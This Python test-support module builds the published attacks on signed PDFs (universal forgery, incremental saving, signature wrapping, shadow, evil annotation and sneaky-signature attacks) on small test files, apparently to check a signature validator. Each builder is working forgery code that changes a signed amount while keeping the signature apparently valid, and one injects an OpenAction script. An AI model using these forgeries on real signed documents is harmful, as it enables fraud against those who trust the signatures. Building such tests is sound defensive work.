"""Attacks on signed PDF files, as they are published, each written anew for a small file of ``small_pdf``.

Universal forgery (the signature is made unreadable), incremental saving, signature wrapping: Mladenov, Mainka et al.,
*1 Trillion Dollar Refund* (CCS 2019). Shadow attacks hide, replace, hide-and-replace: Mainka, Mladenov, Rohlmann
(NDSS 2021). Evil annotation, sneaky signature: Rohlmann et al., *Breaking the Specification* (S&P 2021).
Every builder takes bytes and gives bytes; the object numbers are those of ``small_pdf.objects_of``.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping

from tests.support.small_pdf import objects_of, page_object, stream, text_content, written_pdf

CATALOGUE, PAGES, FONT, PAGE, CONTENT = 1, 2, 3, 4, 5
TRUE, FALSE = b"To pay: 1,000", b"To pay: 9,000"
FREE = 90

_BYTE_RANGE = re.compile(rb"/ByteRange \[\s*(\d+) (\d+) (\d+) (\d+)\s*\]")
_ENTRY = re.compile(rb"(\d{10}) (\d{5}) ([nf])")


# Files as the attacker has them.


def update(pdf: bytes, objects: Mapping[int, bytes], *, table: bool = True) -> bytes:
    """Append a revision with these objects; without ``table`` nothing points to them."""
    start, size, root = _end_of(pdf)
    out, offsets = bytearray(pdf), {}
    if not out.endswith(b"\n"):
        out += b"\n"
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return bytes(out + _table(offsets, start, size, root, len(out))) if table else bytes(out)


def repointed(pdf: bytes, offsets: Mapping[int, int]) -> bytes:
    """Append a cross-reference table alone."""
    start, size, root = _end_of(pdf)
    return pdf + _table(dict(offsets), start, size, root, len(pdf))


def body_of(pdf: bytes, number: int) -> bytes:
    """The object of that number as it was last written."""
    start = pdf.rindex(b"\n%d 0 obj" % number)
    return pdf[pdf.index(b"obj", start) + 3 : pdf.index(b"endobj", start)].strip()


def _end_of(pdf: bytes) -> tuple[int, int, int]:
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = max(int(each) for each in re.findall(rb"/Size (\d+)", pdf))
    root = int(re.findall(rb"/Root (\d+) 0 R", pdf)[-1])
    return start, size, root


def _table(offsets: dict[int, int], previous: int, size: int, root: int, at: int) -> bytes:
    lines = [b"xref"]
    for number, offset in sorted(offsets.items()):
        lines += [b"%d 1" % number, b"%010d 00000 n " % offset]
    size = max([size, *(each + 1 for each in offsets)])
    lines += [b"trailer", b"<< /Size %d /Root %d 0 R /Prev %d >>" % (size, root, previous)]
    return b"\n".join([*lines, b"startxref", b"%d" % at, b"%%EOF", b""])


def _byte_range(pdf: bytes) -> re.Match[bytes]:
    *_, last = _BYTE_RANGE.finditer(pdf)
    return last


def _contents(pdf: bytes) -> slice:
    """The hexadecimal digits of the last signature."""
    _, length, after, _ = (int(each) for each in _byte_range(pdf).groups())
    return slice(length + 1, after - 1)


def _same_length(pdf: bytes, place: slice, new: bytes, fill: bytes = b" ") -> bytes:
    start, stop = int(place.start), int(place.stop)
    assert len(new) <= stop - start
    return pdf[:start] + new + fill * (stop - start - len(new)) + pdf[stop:]


# What is signed is changed in place, or the signature itself.


def amount_changed(pdf: bytes) -> bytes:
    """The amount is another, in the bytes that are signed."""
    assert TRUE in pdf
    return pdf.replace(TRUE, FALSE)


def byte_range_removed(pdf: bytes) -> bytes:
    """Universal forgery: there is no /ByteRange any more."""
    return amount_changed(pdf).replace(b"/ByteRange", b"/ByteRang0")


def byte_range_empty(pdf: bytes) -> bytes:
    """Universal forgery: the byte range covers nothing."""
    found = _byte_range(pdf)
    return amount_changed(_same_length(pdf, slice(*found.span()), b"/ByteRange [0 0 0 0]"))


def byte_range_negative(pdf: bytes) -> bytes:
    """Universal forgery: the byte range begins before the file."""
    found = _byte_range(pdf)
    return amount_changed(_same_length(pdf, slice(*found.span()), b"/ByteRange [0 -1 1 -1]"))


def contents_null(pdf: bytes) -> bytes:
    """Universal forgery: the signature is null."""
    place = _contents(pdf)
    return amount_changed(_same_length(pdf, slice(place.start - 1, place.stop + 1), b"null"))


def contents_zero(pdf: bytes) -> bytes:
    """Universal forgery: the signature is zeros."""
    return amount_changed(_same_length(pdf, _contents(pdf), b"00", b"0"))


def padding_changed(pdf: bytes) -> bytes:
    """The zeros behind the signature hold something; nothing that is signed is touched."""
    place = _contents(pdf)
    return pdf[: place.stop - 8] + b"deadbeef" + pdf[place.stop :]


def with_contents_of(pdf: bytes, other: bytes) -> bytes:
    """The signature is the one of another file."""
    return _same_length(pdf, _contents(pdf), other[_contents(other)].rstrip(b"0") + b"0", b"0")


def exchanged(pdf: bytes) -> bytes:
    """Of two signatures in a file each stands where the other stood."""
    places = []
    for found in _BYTE_RANGE.finditer(pdf):
        _, length, after, _ = (int(each) for each in found.groups())
        places.append(slice(length + 1, after - 1))
    first, second = places
    swapped = _same_length(pdf, first, pdf[second].rstrip(b"0"), b"0")
    return _same_length(swapped, second, pdf[first].rstrip(b"0"), b"0")


# Incremental saving: something is appended, and what is signed stays as it is.


def content_replaced(pdf: bytes) -> bytes:
    """The page shows another amount."""
    return update(pdf, {CONTENT: stream(text_content(FALSE.decode()))})


def content_replaced_without_table(pdf: bytes) -> bytes:
    """The same, with nothing that points to it: a reader that repairs files would find it."""
    return update(pdf, {CONTENT: stream(text_content(FALSE.decode()))}, table=False)


def content_replaced_with_signature_copied(pdf: bytes) -> bytes:
    """The same, and the signature is written again behind it, byte by byte."""
    number = int(re.findall(rb"/V (\d+) 0 R", pdf)[-1])
    return update(pdf, {CONTENT: stream(text_content(FALSE.decode())), number: body_of(pdf, number)})


def page_appended(pdf: bytes) -> bytes:
    """A second page."""
    pages = b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (PAGE, FREE)
    added = {PAGES: pages, FREE: page_object(FREE + 1), FREE + 1: stream(text_content("Signed: also this"))}
    return update(pdf, added)


def page_content_added(pdf: bytes) -> bytes:
    """The page has one more content stream, over the first."""
    page = body_of(pdf, PAGE).replace(b"/Contents 5 0 R", b"/Contents [5 0 R %d 0 R]" % FREE)
    return update(pdf, {PAGE: page, FREE: stream(text_content("and 8,000 more", 660))})


def font_replaced(pdf: bytes) -> bytes:
    """The same characters are drawn with another font."""
    return update(pdf, {FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"})


def annotation_added(pdf: bytes) -> bytes:
    """Evil annotation: a note with an appearance of its own lies over the amount."""
    return update(pdf, _with_annotation(pdf, _overlay(b"/Subtype /FreeText /Contents (9,000)")))


def action_added(pdf: bytes) -> bytes:
    """Opening the file runs a script."""
    catalogue = body_of(pdf, CATALOGUE)
    assert catalogue.endswith(b">>")
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return update(pdf, {CATALOGUE: catalogue[:-2] + b"/OpenAction " + script + b" >>"})


def comment_appended(pdf: bytes) -> bytes:
    """Bytes behind the end that mean nothing."""
    return pdf + b"% nothing to see here\n"


def sneaky_signature(pdf: bytes) -> bytes:
    """A signature field whose appearance lies over the amount; nobody signed in it."""
    objects = _with_annotation(pdf, _overlay(b"/Subtype /Widget /FT /Sig /T (Seal) /Ff 0"))
    catalogue = body_of(pdf, CATALOGUE)
    number = int(re.findall(rb"/AcroForm (\d+) 0 R", catalogue)[-1])
    form = body_of(pdf, number)
    objects[number] = re.sub(rb"/Fields \[([^\]]*)\]", rb"/Fields [\1 %d 0 R]" % FREE, form)
    return update(pdf, objects)


def sneaky_signature_in_a_crowd(pdf: bytes) -> bytes:
    """The same, behind more empty signature fields that show nothing than anybody lists."""
    crowd = range(FREE + 10, FREE + 211)
    objects = _with_annotation(pdf, _overlay(b"/Subtype /Widget /FT /Sig /T (Seal) /Ff 0"))
    objects |= {each: b"<< /FT /Sig /T (Empty%d) >>" % each for each in crowd}
    number = int(re.findall(rb"/AcroForm (\d+) 0 R", body_of(pdf, CATALOGUE))[-1])
    listed = b" ".join(b"%d 0 R" % each for each in (*crowd, FREE))
    form = body_of(pdf, number)
    objects[number] = re.sub(rb"/Fields \[([^\]]*)\]", rb"/Fields [\1 " + listed + b"]", form)
    return update(pdf, objects)


def _overlay(kind: bytes) -> dict[int, bytes]:
    drawn = b"1 1 1 rg 0 0 400 40 re f 0 g " + text_content(FALSE.decode(), 10).replace(b"72 10", b"0 10")
    resources = b" /Resources << /Font << /F1 %d 0 R >> >>" % FONT
    return {
        FREE: b"<< /Type /Annot %s /F 4 /Rect [72 690 472 730] /P %d 0 R /AP << /N %d 0 R >> >>"
        % (kind, PAGE, FREE + 1),
        FREE + 1: stream(drawn, b" /Type /XObject /Subtype /Form /BBox [0 0 400 40]" + resources),
    }


def _with_annotation(pdf: bytes, objects: dict[int, bytes]) -> dict[int, bytes]:
    page = body_of(pdf, PAGE)
    if b"/Annots [" in page:
        page = re.sub(rb"/Annots \[([^\]]*)\]", rb"/Annots [\1 %d 0 R]" % FREE, page)
    else:
        page = page[:-2] + b"/Annots [%d 0 R] >>" % FREE
    return {PAGE: page, **objects}


# Wrapping: the second signed part moves behind what the attacker puts in the room that the signature left free.


def wrapped(pdf: bytes) -> bytes:
    """A second /ByteRange in the same dictionary points to where the second part is now."""
    start, length, after, rest = (int(each) for each in _byte_range(pdf).groups())
    old_table, _, _ = _end_of(pdf)
    der = pdf[_contents(pdf)].rstrip(b"0")
    der += b"0" * (len(der) % 2)
    evil = b"\n%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(text_content(FALSE.decode())))
    moved = _moved_to(pdf, after, rest)
    gap = b"<%s> /ByteRange [%d %d %010d %d] >>\nendobj" % (der, start, length, moved, rest)
    evil_at = length + len(gap) + 1
    # The file ends with the old startxref, so the new table has to stand there.
    filled = gap + evil
    filled += b"\n" + b"%" * (old_table - length - len(filled) - 2) + b"\n"
    filled += _moved_table(pdf, old_table, after, moved - after, evil_at)
    assert length + len(filled) <= moved
    filled += b"%" * (moved - length - len(filled) - 1) + b"\n"
    return pdf[:length] + filled + pdf[after:]


def _moved_to(pdf: bytes, after: int, rest: int) -> int:
    return after + rest + len(pdf)


def _moved_table(pdf: bytes, table: int, after: int, delta: int, evil_at: int) -> bytes:
    end = pdf.index(b"startxref", table)

    def moved(entry: re.Match[bytes]) -> bytes:
        offset = int(entry[1])
        return b"%010d %s %s" % (offset + delta if offset >= after else offset, entry[2], entry[3])

    head, trailer = pdf[table:end].split(b"trailer", 1)
    head = _ENTRY.sub(moved, head) + b"%d 1\n%010d 00000 n \n" % (CONTENT, evil_at)
    return head + b"trailer" + trailer


# Shadow attacks: the file is prepared before it is signed; later its hidden part is shown.


def shadow_hide_prepared() -> bytes:
    """A form over the page hides the false amount and shows the true one."""
    objects = objects_of([FALSE.decode()])
    cover = b"1 1 1 rg 0 600 595 200 re f 0 g " + text_content(TRUE.decode())
    resources = b" /Resources << /Font << /F1 3 0 R >> >>"
    objects[6] = stream(cover, b" /Type /XObject /Subtype /Form /BBox [0 0 595 842]" + resources)
    objects[CONTENT] = stream(text_content(FALSE.decode()) + b" /Cover Do")
    objects[PAGE] = objects[PAGE].replace(b"/Font <<", b"/XObject << /Cover 6 0 R >> /Font <<")
    return written_pdf(objects)


def shadow_hide(signed: bytes) -> bytes:
    """The form is emptied."""
    return update(signed, {6: stream(b"q Q", b" /Type /XObject /Subtype /Form /BBox [0 0 595 842]")})


def shadow_replace_prepared() -> bytes:
    """A text field shows the true amount by its appearance; its value is the false one."""
    objects = objects_of(["Contract"])
    drawn = text_content(TRUE.decode(), 10).replace(b"72 10", b"0 10")
    look = b" /Type /XObject /Subtype /Form /BBox [0 0 400 40] /Resources << /Font << /F1 3 0 R >> >>"
    objects[6] = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (%s) /DA (/F1 24 Tf 0 g) /F 4 "
        b"/Rect [72 600 472 640] /P 4 0 R /AP << /N 7 0 R >> >>" % FALSE
    )
    objects[7] = stream(drawn, look)
    objects[PAGE] = objects[PAGE][:-2] + b"/Annots [6 0 R] >>"
    form = b"/AcroForm << /Fields [6 0 R] /DR << /Font << /F1 3 0 R >> >> >>"
    objects[CATALOGUE] = objects[CATALOGUE][:-2] + form + b" >>"
    return written_pdf(objects)


def shadow_replace(signed: bytes) -> bytes:
    """The appearance becomes that of the value."""
    drawn = text_content(FALSE.decode(), 10).replace(b"72 10", b"0 10")
    look = b" /Type /XObject /Subtype /Form /BBox [0 0 400 40] /Resources << /Font << /F1 3 0 R >> >>"
    return update(signed, {7: stream(drawn, look)})


def shadow_hide_and_replace_prepared() -> bytes:
    """A page content that nothing points to lies in front of the one that is shown."""
    objects = objects_of([TRUE.decode()])
    hidden = b"%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(text_content(FALSE.decode())))
    # Inside a stream that is never drawn, so that no table is wrong.
    objects[6] = stream(b"\n" + hidden)
    return written_pdf(objects)


def shadow_hide_and_replace(signed: bytes) -> bytes:
    """A table alone shows the hidden content; no object is written."""
    return repointed(signed, {CONTENT: signed.index(b"\n%d 0 obj" % CONTENT, signed.index(b"6 0 obj")) + 1})


# By name: what is done to a signed file of ``plain_pdf``.
ON_SIGNED: dict[str, Callable[[bytes], bytes]] = {
    each.__name__: each
    for each in (
        amount_changed,
        byte_range_removed,
        byte_range_empty,
        byte_range_negative,
        contents_null,
        contents_zero,
        padding_changed,
        content_replaced,
        content_replaced_without_table,
        content_replaced_with_signature_copied,
        page_appended,
        page_content_added,
        font_replaced,
        annotation_added,
        sneaky_signature,
        sneaky_signature_in_a_crowd,
        action_added,
        comment_appended,
        wrapped,
    )
}
# By name: how the file is prepared, and what is done to it once it is signed.
SHADOWS: dict[str, tuple[Callable[[], bytes], Callable[[bytes], bytes]]] = {
    "shadow_hide": (shadow_hide_prepared, shadow_hide),
    "shadow_replace": (shadow_replace_prepared, shadow_replace),
    "shadow_hide_and_replace": (shadow_hide_and_replace_prepared, shadow_hide_and_replace),
}
